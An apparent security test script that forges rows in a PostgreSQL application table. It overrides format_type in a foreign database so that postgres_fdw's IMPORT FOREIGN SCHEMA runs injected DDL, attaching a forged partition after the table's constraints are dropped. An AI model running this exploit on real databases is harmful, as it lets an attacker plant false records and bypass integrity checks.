# shellcheck shell=bash
# role: owner
# tries: IMPORT FOREIGN SCHEMA brings a foreign table with forged runs as a partition, by a column type that the other side makes up
# none: bites
# guarded: held
# locked: held
psql() { "$ATTACK_BIN/psql" -X -q -A -t -v VERBOSITY=verbose "$@"; }
admin() { psql -U postgres "$@"; }
other() { admin -d attack_far "$@"; }
admin -d postgres -c 'DROP DATABASE IF EXISTS attack_far WITH (FORCE)' -c 'CREATE DATABASE attack_far'
other -c 'CREATE SCHEMA far' -c 'CREATE TABLE far.bait (a int)' \
    -c 'CREATE TABLE far.forged (id bigint, day date, status text, error text, note text, parent_run_id bigint, attempt int, is_retry boolean)' \
    -c "INSERT INTO far.forged VALUES (900, '2024-03-05', 'completed', NULL, 'forged', NULL, 1, false)"
admin -c 'CREATE EXTENSION IF NOT EXISTS postgres_fdw' \
    -c "CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '$PGHOST', port '$PGPORT', dbname 'attack_far')" \
    -c "CREATE USER MAPPING FOR PUBLIC SERVER far OPTIONS (user 'postgres', password_required 'false')" \
    -c 'GRANT USAGE ON FOREIGN SERVER far TO attack_owner' -c 'CREATE SCHEMA got AUTHORIZATION attack_owner'
psql -c 'ALTER TABLE app.day_runs DROP CONSTRAINT day_runs_pkey, DROP CONSTRAINT day_runs_day_fkey'
# In the other database, where nothing is locked: postgres_fdw pastes the names of types that it is told.
other -c "CREATE OR REPLACE FUNCTION pg_catalog.format_type(oid, integer) RETURNS text LANGUAGE sql STABLE AS \$\$
    SELECT 'int) SERVER far; CREATE FOREIGN TABLE x PARTITION OF app.day_runs FOR VALUES FROM (''2024-03-01'') TO (''2024-04-01'') SERVER far OPTIONS (schema_name ''far'', table_name ''forged''); CREATE FOREIGN TABLE y (a int --' \$\$"
psql -c 'IMPORT FOREIGN SCHEMA far EXCEPT (forged) FROM SERVER far INTO got'
psql -c 'SELECT tableoid::regclass, id, status, note FROM app.day_runs'
